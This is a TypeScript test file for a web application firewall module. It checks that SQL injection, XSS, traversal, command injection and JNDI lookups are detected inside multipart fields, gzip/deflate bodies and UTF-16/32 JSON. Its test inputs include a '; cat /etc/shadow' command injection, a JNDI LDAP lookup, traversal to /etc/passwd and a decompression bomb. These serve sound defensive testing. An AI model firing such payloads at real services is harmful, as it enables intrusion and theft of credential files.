// Body-level evasions found by an audit of http_waf: multipart fields,
// compressed bodies (Content-Encoding gzip / deflate) and UTF-16/32 JSON
// went uninspected. Each test sends the body a
// back end would decode (Express inflates and accepts any utf-* charset; PHP
// and Spring parse multipart fields as arguments) and expects the attack in
// it to be seen, or, where the module cannot decode it, the unread-body
// anomaly (1001014 past body_depth, 1001016 for a coding it cannot undo) instead of nothing.
//
// HTTP_WAF_WASM=<file> runs these tests against another build of the module
// (how they were shown to fail before the change).
import * as zlib from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { Verdict } from '../../../host/verdict.js';
import { SID, wafUnderTest, run, streamItem } from './waf.js';
import { compareCost } from '../cost.js';

const module = wafUnderTest;

beforeAll(async () => { await module(); }, 180_000);

const { SQLI, XSS, TRAVERSAL, CMDI, JNDI, BODY_PAST_DEPTH, BODY_UNDECODED } = SID;
const JNDI_TEXT = '${jndi:ldap://198.18.0.66/a}';
const SQLI_FORM = "user=admin&pass=1'+or+1=1--+";

let flow = 5000;
const sids = (r: { alerts: { sigId: number }[] }) => [...new Set(r.alerts.map((a) => a.sigId))].sort();
const concat = (...parts: (string | Uint8Array)[]) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p))));

/** A POST with the given headers and body bytes, and its Content-Length. */
function post(headers: Record<string, string>, body: Uint8Array, target = '/submit'): Uint8Array {
  const h = { Host: 'shop.example', 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0', ...headers, 'Content-Length': String(body.length) };
  return concat(`POST ${target} HTTP/1.1\r\n${Object.entries(h).map(([k, v]) => `${k}: ${v}`).join('\r\n')}\r\n\r\n`, body);
}

async function send(message: Uint8Array, config?: unknown) {
  return run(await module(config), [streamItem(flow++, 0, message)]);
}

// ---------------------------------------------------------------- multipart

interface Field { name: string; value: string | Uint8Array; filename?: string; type?: string }

function multipart(fields: Field[], boundary = '----x', eol = '\r\n', close = true): Uint8Array {
  const parts: (string | Uint8Array)[] = [];
  for (const f of fields) {
    parts.push(`--${boundary}${eol}Content-Disposition: form-data; name="${f.name}"${f.filename !== undefined ? `; filename="${f.filename}"` : ''}${eol}`);
    if (f.type) parts.push(`Content-Type: ${f.type}${eol}`);
    parts.push(eol, typeof f.value === 'string' ? Buffer.from(f.value, 'utf8') : f.value, eol);
  }
  if (close) parts.push(`--${boundary}--${eol}`);
  return concat(...parts);
}

const formData = (fields: Field[], ct = 'multipart/form-data; boundary=----x', opts: { boundary?: string; eol?: string; close?: boolean } = {}) =>
  post({ 'Content-Type': ct }, multipart(fields, opts.boundary, opts.eol, opts.close));

describe('http_waf multipart/form-data fields (F10)', () => {
  it('finds SQL injection in a field, named by its field', async () => {
    const r = await send(formData([{ name: 'user', value: 'admin' }, { name: 'pass', value: "1' or 1=1-- " }]));
    expect(sids(r)).toEqual([SQLI]);
    expect(r.alerts[0]!.metadata).toMatchObject({ field: 'multipart:pass', value: "1' or 1=1-- " });
  });

  it('finds traversal in a field value', async () => {
    const r = await send(formData([{ name: 'file', value: '../../../../etc/passwd' }]));
    expect(sids(r)).toEqual([TRAVERSAL]);
  });

  it('runs XSS, command injection and JNDI on fields, as for url-encoded ones', async () => {
    expect(sids(await send(formData([{ name: 'comment', value: '<svg onload=alert(1)>' }])))).toEqual([XSS]);
    expect(sids(await send(formData([{ name: 'host', value: '127.0.0.1; cat /etc/shadow' }])))).toContain(CMDI);
    expect(sids(await send(formData([{ name: 'name', value: JNDI_TEXT }])))).toEqual([JNDI]);
  });

  it('flags a filename that climbs out of the upload folder', async () => {
    for (const filename of ['../../../var/www/html/shell.php', '../shell.php', 'uploads/../../x.php', '..\\..\\web.config']) {
      const r = await send(formData([{ name: 'upload', filename, value: 'GIF89a', type: 'image/gif' }]));
      expect(sids(r), filename).toEqual([TRAVERSAL]);
      expect(r.alerts[0]!.metadata).toMatchObject({ field: 'multipart filename:upload' });
    }
  });

  it('reads quoted boundaries, bare LF line ends, header case and a body cut before the closing boundary', async () => {
    const field = [{ name: 'pass', value: "1' or 1=1-- " }];
    expect(sids(await send(formData(field, 'multipart/form-data; boundary="a b;c"', { boundary: 'a b;c' })))).toEqual([SQLI]);
    expect(sids(await send(formData(field, 'Multipart/Form-Data; charset=utf-8; BOUNDARY=zz', { boundary: 'zz', eol: '\n' })))).toEqual([SQLI]);
    expect(sids(await send(formData(field, undefined, { close: false })))).toEqual([SQLI]);
    const lower = concat('------x\r\ncontent-disposition: form-data; name=pass\r\n\r\n', "1' or 1=1-- ", '\r\n------x--\r\n');
    expect(sids(await send(post({ 'Content-Type': 'multipart/form-data; boundary=----x' }, lower)))).toEqual([SQLI]);
  });

  it('finds the attack in the last of many fields and in a JSON part', async () => {
    const many: Field[] = Array.from({ length: 100 }, (_, k) => ({ name: `f${k}`, value: 'plain text' }));
    many.push({ name: 'pass', value: "1' or 1=1-- " });
    expect(sids(await send(formData(many)))).toEqual([SQLI]);
    const json = [{ name: 'meta', type: 'application/json', value: '{"q":"x\\u0027 union select password from users-- "}' }];
    expect(sids(await send(formData(json)))).toEqual([SQLI]);
  });

  it('leaves ordinary forms and uploads alone', async () => {
    const png = new Uint8Array(4096).map((_, i) => (i * 131 + 7) & 0xff);
    const r = await send(formData([
      { name: 'title', value: "O'Reilly's guide to SQL: select the best 1 or 2 books" },
      { name: 'price', value: '19.99' },
      { name: 'notes', value: 'Line one\r\nLine two; see /docs/setup and C:\\Users\\me\\file.txt' },
      { name: 'avatar', filename: "my photo (1) - O'Brien.png", type: 'image/png', value: png },
      { name: 'doc', filename: 'queries.sql', type: 'application/sql', value: "select * from users where name = 'a' or 1=1;" },
    ]));
    expect(r.alerts).toEqual([]);
  });

  it('a body made only of boundary-like lines costs no more than 5x the same size of ordinary lines', async () => {
    const inst = await module({ body_depth: 1 << 20 });
    const type = { 'Content-Type': 'multipart/form-data; boundary=' + '----x' + 'y'.repeat(60) };
    const near = concat(('------x' + 'y'.repeat(57) + '\n').repeat(16000));
    const plain = concat(('The quick brown fox jumps over the lazy dog, twice' + '.'.repeat(14) + '\n').repeat(16000));
    expect(plain.length).toBe(near.length);
    const rounds = (body: Uint8Array) => () => [streamItem(flow++, 0, post(type, body))];
    expect(run(inst, rounds(near)()).alerts).toEqual([]);
    const c = compareCost(inst, rounds(plain), rounds(near), 3);
    expect(c.ratio, JSON.stringify(c)).toBeLessThan(5);
  }, 120_000);
});

// ---------------------------------------------------------------- Content-Encoding

const formHeaders = (encoding: string) => ({ 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Encoding': encoding });

describe('http_waf compressed request bodies (F7)', () => {
  it('inflates gzip, zlib deflate and raw deflate bodies', async () => {
    const form = Buffer.from(SQLI_FORM);
    expect(sids(await send(post(formHeaders('gzip'), zlib.gzipSync(form))))).toEqual([SQLI]);
    expect(sids(await send(post(formHeaders('x-gzip'), zlib.gzipSync(form))))).toEqual([SQLI]);
    expect(sids(await send(post(formHeaders('deflate'), zlib.deflateSync(form))))).toEqual([SQLI]);
    expect(sids(await send(post(formHeaders('Deflate'), zlib.deflateRawSync(form))))).toEqual([SQLI]);
    const json = zlib.gzipSync(Buffer.from(`{"user":"${JNDI_TEXT}"}`));
    expect(sids(await send(post({ 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' }, json)))).toEqual([JNDI]);
  });

  it('decodes stored, fixed-Huffman and dynamic-Huffman blocks', async () => {
    const text = Buffer.from('a=' + 'lorem ipsum dolor sit amet '.repeat(200) + "&pass=1'+or+1=1--+");
    const stored = zlib.gzipSync(text, { level: 0 });
    const fixed = zlib.gzipSync(text, { strategy: zlib.constants.Z_FIXED });
    const dynamic = zlib.gzipSync(text, { level: 9 });
    expect(stored.length).toBeGreaterThan(text.length);
    expect(dynamic.length).toBeLessThan(fixed.length);
    for (const body of [stored, fixed, dynamic]) expect(sids(await send(post(formHeaders('gzip'), body)))).toEqual([SQLI]);
  });

  it('reads every gzip member, header fields and stacked codings', async () => {
    const members = concat(zlib.gzipSync(Buffer.from('a=1&')), zlib.gzipSync(Buffer.from("pass=1'+or+1=1--+")));
    expect(sids(await send(post(formHeaders('gzip'), members)))).toEqual([SQLI]);
    // FEXTRA, FNAME and FCOMMENT before the data
    const plain = zlib.gzipSync(Buffer.from(SQLI_FORM));
    const flagged = concat(Uint8Array.from([0x1f, 0x8b, 8, 4 | 8 | 16, 0, 0, 0, 0, 0, 3, 3, 0, 1, 2, 3]), 'name.txt\0', 'a comment\0', plain.subarray(10));
    expect(sids(await send(post(formHeaders('gzip'), flagged)))).toEqual([SQLI]);
    const twice = zlib.gzipSync(zlib.deflateSync(Buffer.from(SQLI_FORM)));
    expect(sids(await send(post(formHeaders('deflate, gzip'), twice)))).toEqual([SQLI]);
    expect(sids(await send(post({ ...formHeaders('identity'), 'Content-Encoding': 'identity' }, Buffer.from(SQLI_FORM))))).toEqual([SQLI]);
  });

  it('inspects bytes after the end of the compressed stream', async () => {
    const body = concat(zlib.gzipSync(Buffer.from('a=1')), "&pass=1'+or+1=1--+");
    expect(sids(await send(post(formHeaders('gzip'), body)))).toContain(SQLI);
  });

  it('reports a corrupt stream as an unread body, and inspects what decoded and the bytes as sent', async () => {
    const good = zlib.gzipSync(Buffer.from('a=' + 'x'.repeat(300) + "&pass=1'+or+1=1--+"), { level: 9 });
    const corrupt = Buffer.from(good);
    corrupt[10] |= 0x06; // block type 3, which does not exist
    const r = await send(post(formHeaders('gzip'), corrupt));
    expect(sids(r)).toContain(BODY_UNDECODED);
    expect(r.verdicts).toEqual([Verdict.CONTINUE]);
    // what decoded before the corruption is inspected
    const partly = await send(post(formHeaders('gzip'), concat(zlib.gzipSync(Buffer.from(SQLI_FORM)), corrupt)));
    expect(sids(partly)).toEqual([SQLI, BODY_UNDECODED]);
    // PHP ignores Content-Encoding on requests: the plain form it reads is inspected
    const liar = await send(post(formHeaders('gzip'), Buffer.from(SQLI_FORM)));
    expect(sids(liar)).toEqual([SQLI, BODY_UNDECODED]);
    // cut short: the end of the stream is missing though the whole body arrived
    expect(sids(await send(post(formHeaders('gzip'), good.subarray(0, good.length - 20))))).toContain(BODY_UNDECODED);
  });

  it('reports an encoding it cannot decode', async () => {
    const r = await send(post(formHeaders('br'), zlib.brotliCompressSync(Buffer.from('a=' + 'b'.repeat(300)))));
    expect(sids(r)).toEqual([BODY_UNDECODED]);
    const blocked = await send(post(formHeaders('compress'), Buffer.from('\x1f\x9d\x90abc')), { mode: 'block', body_action: 'block' });
    expect(blocked.verdicts).toEqual([Verdict.BLOCK_FLOW]);
  });

  it('stops a bomb at body_depth, reports it, and blocks it when body_action says so', async () => {
    const bomb = zlib.gzipSync(Buffer.concat([Buffer.alloc(4 << 20, 0x61), Buffer.from("&pass=1'+or+1=1--+")]), { level: 9 });
    expect(bomb.length).toBeLessThan(8192);
    const r = await send(post(formHeaders('gzip'), bomb));
    expect(sids(r)).toEqual([BODY_PAST_DEPTH]);
    const blocked = await send(post(formHeaders('gzip'), bomb), { mode: 'block', body_action: 'block' });
    expect(blocked.verdicts).toEqual([Verdict.BLOCK_FLOW]);
    // an attack within the first body_depth inflated bytes is still found
    const early = zlib.gzipSync(Buffer.concat([Buffer.from("pass=1'+or+1=1--+&a="), Buffer.alloc(1 << 20, 0x61)]));
    expect(sids(await send(post(formHeaders('gzip'), early)))).toEqual([SQLI, BODY_PAST_DEPTH]);
  });

  it('inflates a 1 MiB body_depth of literals', async () => {
    let seed = 7;
    const text = Buffer.alloc(1 << 20).map(() => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return 0x61 + (seed >> 16) % 16; });
    const body = zlib.gzipSync(Buffer.concat([Buffer.from("pass=1'+or+1=1--+&a="), text]));
    expect(body.length).toBeLessThan(1 << 20);
    const inst = await module({ body_depth: 1 << 20 });
    const r = run(inst, [streamItem(flow++, 0, post(formHeaders('gzip'), body))]);
    expect(sids(r)).toEqual([SQLI, BODY_PAST_DEPTH]);
  });

  it('inflates a body split over packets once it is complete', async () => {
    const msg = post(formHeaders('gzip'), zlib.gzipSync(Buffer.from(SQLI_FORM)));
    const inst = await module();
    const id = flow++;
    const first = run(inst, [streamItem(id, 0, msg.subarray(0, msg.length - 5))]);
    expect(first.alerts).toEqual([]);
    expect(sids(run(inst, [streamItem(id, 0, msg)]))).toEqual([SQLI]);
  });

  it('leaves ordinary compressed bodies alone', async () => {
    const json = JSON.stringify({ items: Array.from({ length: 50 }, (_, k) => ({ id: k, name: `Widget ${k}`, note: "Bob's order, 5' 10\" tall" })) });
    const r = await send(post({ 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' }, zlib.gzipSync(Buffer.from(json))));
    expect(r.alerts).toEqual([]);
  });

  it('survives mutated and random streams without trapping', async () => {
    const inst = await module();
    const base = zlib.gzipSync(Buffer.from('a=' + 'the quick brown fox '.repeat(40) + "&b=1'+or+1=1--+"), { level: 9 });
    let seed = 1;
    const rnd = () => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return seed; };
    for (let k = 0; k < 2000; k++) {
      const body = Buffer.from(k % 4 === 3 ? Buffer.alloc(200 + (rnd() % 400)).map(() => rnd() & 0xff) : base);
      if (k % 4 !== 3) for (let m = 0; m < 1 + (k % 5); m++) body[10 + (rnd() % (body.length - 10))] ^= 1 << (rnd() % 8);
      const enc = k % 2 === 0 ? 'gzip' : 'deflate';
      const r = run(inst, [streamItem(flow++, 0, post(formHeaders(enc), body))]);
      expect(r.verdicts[0]).toBe(Verdict.CONTINUE);
    }
  });
});

// ---------------------------------------------------------------- charsets

const utf16be = (s: string) => Buffer.from(s, 'utf16le').swap16();
const utf32le = (s: string) => Buffer.concat([...s].map((c) => { const b = Buffer.alloc(4); b.writeUInt32LE(c.codePointAt(0)!); return b; }));

describe('http_waf UTF-16 and UTF-32 bodies (F8)', () => {
  const json = `{"user":"admin' or 1=1-- "}`;
  const jsonType = (charset: string) => ({ 'Content-Type': `application/json; charset=${charset}` });

  it('decodes JSON by its charset parameter', async () => {
    expect(sids(await send(post(jsonType('utf-16le'), Buffer.from(json, 'utf16le'))))).toEqual([SQLI]);
    expect(sids(await send(post(jsonType('UTF-16BE'), utf16be(json))))).toEqual([SQLI]);
    expect(sids(await send(post(jsonType('"utf-16"'), concat(Uint8Array.from([0xfe, 0xff]), utf16be(json)))))).toEqual([SQLI]);
    expect(sids(await send(post(jsonType('utf-16'), concat(Uint8Array.from([0xff, 0xfe]), Buffer.from(json, 'utf16le')))))).toEqual([SQLI]);
    expect(sids(await send(post(jsonType('utf-32le'), utf32le(json))))).toEqual([SQLI]);
    const jndi = `{"user":"${JNDI_TEXT}"}`;
    expect(sids(await send(post(jsonType('utf-16le'), Buffer.from(jndi, 'utf16le'))))).toEqual([JNDI]);
  });

  it('detects UTF-16 JSON without a charset, as Jackson does', async () => {
    expect(sids(await send(post({ 'Content-Type': 'application/json' }, Buffer.from(json, 'utf16le'))))).toEqual([SQLI]);
    expect(sids(await send(post({ 'Content-Type': 'application/json' }, utf16be(json))))).toEqual([SQLI]);
  });

  it('decodes a form in UTF-16 (Tomcat reads parameters in the request charset) and a gzip of UTF-16', async () => {
    const form = { 'Content-Type': 'application/x-www-form-urlencoded; charset=UTF-16LE' };
    expect(sids(await send(post(form, Buffer.from(SQLI_FORM, 'utf16le'))))).toEqual([SQLI]);
    const both = { ...jsonType('utf-16le'), 'Content-Encoding': 'gzip' };
    expect(sids(await send(post(both, zlib.gzipSync(Buffer.from(json, 'utf16le')))))).toEqual([SQLI]);
  });

  it('still inspects the bytes as sent, which a server ignoring the charset (PHP) reads', async () => {
    const form = { 'Content-Type': 'application/x-www-form-urlencoded; charset=utf-16' };
    expect(sids(await send(post(form, Buffer.from(SQLI_FORM))))).toEqual([SQLI]);
  });

  it('leaves ordinary UTF-16 text alone', async () => {
    const text = JSON.stringify({ name: 'Zoë Ångström', city: 'Zürich', note: 'café ☕ 😀 — "quoted"', count: 3 });
    expect((await send(post(jsonType('utf-16le'), Buffer.from(text, 'utf16le')))).alerts).toEqual([]);
    expect((await send(post({ 'Content-Type': 'application/json' }, utf16be(text)))).alerts).toEqual([]);
  });
});
